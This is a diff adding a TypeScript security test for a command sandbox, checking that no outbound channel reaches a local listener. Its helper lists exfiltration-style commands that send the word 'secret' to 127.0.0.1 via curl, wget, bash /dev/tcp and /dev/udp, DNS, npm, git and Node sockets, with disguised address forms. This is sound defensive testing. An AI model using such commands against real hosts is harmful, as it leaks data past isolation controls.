@@ -1,4 +1,5 @@
 import * as assert from 'node:assert/strict';
+import { createSocket } from 'node:dgram';
 import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { createServer as createHttpServer } from 'node:http';
 import { createServer } from 'node:net';
@@ -322,6 +323,32 @@ b"; echo ''"'"''`);
       }
     });
 
+    it('SEC-04: anybody who listens, by any of the ways out that are at hand', async () => {
+      const listener = await listen();
+      try {
+        const ways = waysOut(listener.port);
+        // Outside, as a proof that they do reach somebody; those whose program is not here do not count.
+        const environment = place.environment();
+        const plain = (command: string) =>
+          place.processes.run(
+            { command, folder: place.at('work'), timeoutMs: 30_000, env: environment },
+            () => undefined,
+            new AbortController().signal,
+          );
+        for (const way of ways) {
+          await plain(way);
+        }
+        assert.ok(listener.heard() >= 6, `${listener.heard()} ways reach somebody outside`);
+        const before = listener.heard();
+        for (const way of ways) {
+          await place.run(way);
+        }
+        assert.equal(listener.heard() - before, 0);
+      } finally {
+        listener.close();
+      }
+    });
+
     it('Unix sockets, by path and by abstract name', async () => {
       let connections = 0;
       const server = createServer(() => connections++);
@@ -401,3 +428,52 @@ b"; echo ''"'"''`);
     }
   });
 });
+
+/** Counts what reaches this machine by TCP or UDP at one port. */
+async function listen() {
+  let heard = 0;
+  const server = createServer((socket) => {
+    heard++;
+    socket.destroy();
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const address = server.address();
+  const port = typeof address === 'object' && address !== null ? address.port : 0;
+  const packets = createSocket('udp4', () => heard++);
+  await new Promise<void>((resolve) => packets.bind(port, '127.0.0.1', () => resolve()));
+  return {
+    port,
+    heard: () => heard,
+    close: () => {
+      server.close();
+      packets.close();
+    },
+  };
+}
+
+/** Commands that would carry a word out, each by another program, kind of address or protocol. */
+function waysOut(port: number): readonly string[] {
+  const node = (script: string) => `timeout 8 node -e ${JSON.stringify(script)} >/dev/null 2>&1; true`;
+  const tcp = (host: string) =>
+    node(`require('net').connect(${port}, '${host}').on('error', () => {}).on('connect', () => process.exit())`);
+  return [
+    tcp('127.0.0.1'),
+    tcp('localhost'),
+    tcp('::ffff:127.0.0.1'),
+    tcp('2130706433'),
+    tcp('0x7f000001'),
+    tcp('0'),
+    node(`require('dgram').createSocket('udp4').send('secret', ${port}, '127.0.0.1', () => process.exit())`),
+    node(
+      `const r = new (require('dns').Resolver)({ timeout: 500, tries: 1 }); r.setServers(['127.0.0.1:${port}']); r.resolve4('secret.example.com', () => process.exit())`,
+    ),
+    node(`fetch('http://127.0.0.1:${port}/secret').catch(() => {})`),
+    node(`require('net').connect(${port}, '127.0.0.1\\0.example.com').on('error', () => {})`),
+    `timeout 8 npm view secret --registry=http://127.0.0.1:${port}/ --fetch-retries=0 >/dev/null 2>&1; true`,
+    `timeout 8 git ls-remote http://127.0.0.1:${port}/secret >/dev/null 2>&1; true`,
+    `timeout 8 curl -s http://127.0.0.1:${port}/secret >/dev/null 2>&1; true`,
+    `timeout 8 wget -q -t 1 -O /dev/null http://127.0.0.1:${port}/secret >/dev/null 2>&1; true`,
+    `timeout 8 bash -c 'echo secret > /dev/tcp/127.0.0.1/${port}' 2>/dev/null; true`,
+    `timeout 8 bash -c 'echo secret > /dev/udp/127.0.0.1/${port}' 2>/dev/null; true`,
+  ];
+}
